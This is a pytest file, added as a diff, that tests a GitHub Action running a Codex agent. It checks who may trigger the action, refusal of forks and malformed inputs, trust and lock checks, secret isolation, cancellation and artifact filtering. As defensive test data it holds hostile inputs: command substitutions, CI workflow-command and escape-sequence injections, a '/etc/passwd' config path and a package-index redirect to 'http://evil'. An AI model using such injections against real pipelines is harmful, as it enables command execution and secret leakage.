@@ -1,0 +1,241 @@
+"""The action without the real Codex: who may use it, what its inputs may be, and that its outputs are set."""
+
+from __future__ import annotations
+
+import os
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from support.action_job import ACTION, Scene, scene
+from support.action_service import Played, Service
+from support.doubles import FINISHED, THREAD
+from support.repo import Repo
+from support.waiting import wait_until
+
+FORK = {"pull_request": {"head": {"repo": {"full_name": "stranger/project"}}}}
+
+
+@pytest.fixture
+def use(repo: Repo) -> Iterator[Scene]:
+    with scene(repo, {"ann": "write", "bob": "read"}) as it:
+        yield it
+    repo.end_all()
+
+
+def refused(played: Played, code: str) -> str:
+    """The action ends with this code before anything is installed; what it says."""
+    assert played.conclusion == "failure"
+    assert (played.outputs["status"], played.outputs["reason"]) == ("not-started", code)
+    assert {name for name, value in played.outputs.items() if value} == {"status", "reason"}
+    assert [name for name, step in played.steps.items() if step.conclusion != "skipped"] == [
+        *("check", "end", "report")
+    ]
+    ((kind, about, text),) = played.annotations
+    assert (kind, about["title"]) == ("error", f"runner {code}")
+    assert played.obeyed == []
+    return text
+
+
+def only_checked(use: Scene, **inputs: str) -> Played:
+    """All steps that run something else are said to be done: what is left is the check."""
+    given = {name: {} for name in ("install", "doctor", "start", "end", "report")}
+    return Service(ACTION).use(use.job(given=given), **{"task": "work", **inputs})
+
+
+def test_who_may_not_write_is_refused_before_anything_is_installed(use: Scene) -> None:
+    use.actor = "bob"
+    assert "the permission `read`" in refused(use.use(task="work"), "actor_refused")
+    assert use.asked == [("/repos/owner/project/collaborators/bob/permission", "Bearer job-token")]
+    assert only_checked(use, allow_users="bob").conclusion == "success"
+
+
+def test_the_work_of_a_fork_is_refused_before_anything_is_installed(use: Scene) -> None:
+    use.name, use.event = "pull_request", FORK
+    assert "a fork (stranger/project)" in refused(use.use(task="work"), "fork")
+    assert use.asked == []
+    played = only_checked(use, rehearse="true", permissions_check="none")
+    assert "a rehearsal for the fork stranger/project" in played.log
+
+
+@pytest.mark.parametrize(
+    "inputs",
+    [
+        {},
+        {"task": "work", "pipeline": "all"},
+        {"plan": "plan.md"},
+        {"pipeline": "all", "token_limit": "5"},
+        {"task": "work", "plan": "plan.md", "prompt_file": "p.md"},
+        {"task": "work", "token_limit": "5; echo ::add-mask::x"},
+        {"task": "work", "permissions_check": "Write"},
+        {"task": "work", "permissions_check": "none\n::set-output name=a::b"},
+        {"task": "work", "tie_to_job": "yes"},
+        {"task": "work", "codex_version": "latest"},
+        {"task": "work", "codex_version": "1 --index-url=http://evil"},
+        {"task": "work", "runner_version": "99.0"},
+        {"task": "work", "report": "summary,everything"},
+    ],
+    ids=str,
+)
+def test_inputs_that_make_no_sense_are_refused_before_anything_else(
+    use: Scene, inputs: dict[str, str]
+) -> None:
+    refused(use.use(**inputs), "usage")
+    assert use.asked == []
+
+
+HOSTILE = (
+    "--help",
+    "--config=/etc/passwd",
+    "tasks.work.prompt",
+    "tasks.nobody.nothing=$(touch pwned)",
+    "';touch pwned;'=`touch pwned`",
+    "a=\x1b]0;title\x07::add-mask::x",
+    "::error::x",
+    "tasks.work.verify=[['touch','pwned']]%0A::add-mask::secret",
+)
+
+
+@pytest.mark.parametrize("line", HOSTILE, ids=ascii)
+def test_a_hostile_line_of_set_is_a_wrong_setting_and_nothing_else(repo: Repo, use: Scene, line: str) -> None:
+    repo.quick_codex()
+    repo.task()
+    use.trust()
+    played = use.use(task="work", rehearse="true", set=f"defaults.timeout=5m\n\n{line}\n")
+    assert (played.conclusion, played.outputs["status"]) == ("failure", "not-started")
+    assert played.outputs["reason"] in ("config_invalid", "usage", "check_missing")
+    assert (played.obeyed, played.masks) == ([], [])
+    assert not [*repo.base.rglob("pwned")] and repo.no_runs()
+
+
+def test_a_hostile_prompt_reaches_the_agent_as_it_is(repo: Repo, use: Scene) -> None:
+    text = "$(touch pwned) `id` ${{ github.token }} \"' ::stop-commands::x\n::add-mask::e\n--help"
+    repo.write("p.md", text)
+    repo.codex('cat > "$HOME/heard"; echo "::error::from the agent" >&2; exit 1')
+    repo.task()
+    use.trust()
+    use.env |= {"PATH": f"{repo.bin}:/usr/bin:/bin", "CODEX_API_KEY": "k-12345678"}
+    played = use.use(task="work", prompt_file="p.md", set='runtimes.codex.env=["CODEX_API_KEY"]')
+    assert text in (repo.base / "empty/heard").read_text()
+    assert played.outputs["status"] == "failed"
+    assert played.masks == ["k-12345678"]
+    assert played.obeyed == []
+    assert not [*repo.base.rglob("pwned")]
+
+
+def test_settings_that_nobody_trusts_start_nothing(repo: Repo, use: Scene) -> None:
+    repo.quick_codex()
+    repo.task('verify = [["true"]]')
+    played = use.use(task="work", rehearse="true")
+    assert (played.outputs["status"], played.outputs["reason"]) == ("not-started", "not_trusted")
+    assert played.steps["start"].conclusion == "failure"
+    assert repo.no_runs()
+
+
+def test_settings_that_are_not_as_the_lock_says_start_nothing(repo: Repo, use: Scene) -> None:
+    repo.quick_codex()
+    repo.task()
+    assert repo.cli("lock").status == 0
+    repo.task(prompt="Do something else.")
+    use.trust()
+    use.env["PATH"] = f"{repo.bin}:/usr/bin:/bin"
+    played = use.use(task="work", rehearse="true")
+    assert (played.outputs["status"], played.outputs["reason"]) == ("not-started", "lock_drift")
+    assert repo.no_runs()
+
+
+def test_what_checks_run_cannot_reach_the_files_of_the_steps(repo: Repo, use: Scene) -> None:
+    """Such as tests that an agent wrote: they would change what the steps after them do."""
+    repo.quick_codex()
+    repo.task('verify = [["sh", "-c", "env > $HOME/seen"]]')
+    use.trust()
+    use.env |= {"PATH": f"{repo.bin}:/usr/bin:/bin", "CODEX_API_KEY": "k-12345678"}
+    played = use.use(task="work")
+    assert played.outputs["status"] == "succeeded", played.log
+    seen = dict(
+        line.split("=", 1) for line in (repo.base / "empty/seen").read_text().splitlines() if "=" in line
+    )
+    assert "RUNNER_RUN_ID" in seen
+    assert not {name for name in seen if name.startswith(("GITHUB_", "INPUT_", "ACTIONS_", "CODEX_API"))}
+
+
+@pytest.mark.parametrize("is_tied", ["true", "false"])
+def test_a_cancelled_job_ends_its_run_unless_it_is_not_tied(repo: Repo, use: Scene, is_tied: str) -> None:
+    repo.codex(
+        f'cat > /dev/null\n{THREAD}touch "$HOME/begun"\n'
+        f'until [ -e "$HOME/gate" ]; do sleep 0.05; done\n{FINISHED}'
+    )
+    repo.task()
+    use.trust()
+    use.env |= {"PATH": f"{repo.bin}:/usr/bin:/bin", "CODEX_API_KEY": "k-12345678"}
+    begun = repo.base / "empty/begun"
+    played = use.use(begun.exists, task="work", tie_to_job=is_tied)
+    assert played.conclusion == "cancelled"
+    assert played.steps["start"].conclusion == "cancelled"
+    (run,) = repo.runs()
+    assert played.outputs["run-id"] == run.id
+    if is_tied == "true":
+        assert (played.outputs["status"], played.outputs["reason"]) == ("cancelled", "cancelled")
+        assert (played.artifacts["runner"] / "report/report.md").is_file()
+        assert run.events("sealed")
+    else:
+        assert played.outputs["status"] == "running"
+        (repo.base / "empty/gate").touch()
+        wait_until(lambda: run.on_disk()["phase"] == "done")
+
+
+def test_what_may_not_leave_the_machine_is_not_laid_out(repo: Repo, use: Scene) -> None:
+    """Exact copies, what is not sealed, and whatever links lead to."""
+    repo.quick_codex()
+    repo.task()
+    use.trust()
+    use.env |= {"PATH": f"{repo.bin}:/usr/bin:/bin", "CODEX_API_KEY": "k-12345678"}
+    secret = repo.base / "outside"
+    secret.mkdir()
+    (secret / "key").write_text("private")
+    runs = repo.runs_folder
+    other = runs / "old/cli/20260101T000000000Z-00000000"
+    for folder in ("workspace", "kept", "control"):
+        (other / folder).mkdir(parents=True)
+        (other / folder / "copy").write_text("exact")
+    (other / "a.patch").write_text("exact")
+    (other / "rollback-1.json").write_text("exact")
+    (other / "plain.md").write_text("plain")
+    os.symlink(secret, runs / "old/link")
+    os.symlink(secret / "key", runs / "old/key")
+    os.mkfifo(runs / "old/pipe")
+    played = use.use(task="work", artifact="record")
+    assert played.outputs["status"] == "succeeded", played.log
+    laid = played.artifacts["record"]
+    names = {path.relative_to(laid / "runs/old").as_posix() for path in (laid / "runs/old").rglob("*")}
+    inside = other.relative_to(runs / "old").as_posix()
+    assert {name for name in names if not (laid / "runs/old" / name).is_dir()} == {
+        f"{inside}/control/copy",
+        f"{inside}/plain.md",
+    }
+
+
+@pytest.mark.parametrize("has_python", [True, False])
+def test_a_machine_that_the_action_cannot_use_is_named(tmp_path: Path, repo: Repo, has_python: bool) -> None:
+    """One that is no Linux, and one without Python 3.11."""
+    bin = tmp_path / "few"
+    bin.mkdir()
+    for name in ("bash", "sh", "printf", "env"):
+        (bin / name).symlink_to(f"/bin/{name}")
+    (bin / "uname").write_text(f"#!/bin/sh\necho {'Darwin' if has_python else 'Linux'}\n")
+    (bin / "uname").chmod(0o755)
+    with scene(repo) as use:
+        use.env["PATH"] = str(bin)
+        played = use.use(task="work")
+    assert (played.outputs["status"], played.outputs["reason"]) == ("not-started", "platform_unsupported")
+    assert ("Linux only" if has_python else "no Python 3.11") in played.log
+
+
+def test_a_job_without_an_artifact_uploads_nothing(repo: Repo, use: Scene) -> None:
+    repo.quick_codex()
+    repo.task()
+    use.trust()
+    use.env |= {"PATH": f"{repo.bin}:/usr/bin:/bin", "CODEX_API_KEY": "k-12345678"}
+    played = use.use(task="work", artifact="", report="")
+    assert (played.conclusion, played.artifacts, played.summary) == ("success", {}, "")
+    assert (played.outputs["junit"], played.outputs["sarif"], played.annotations) == ("", "", [])
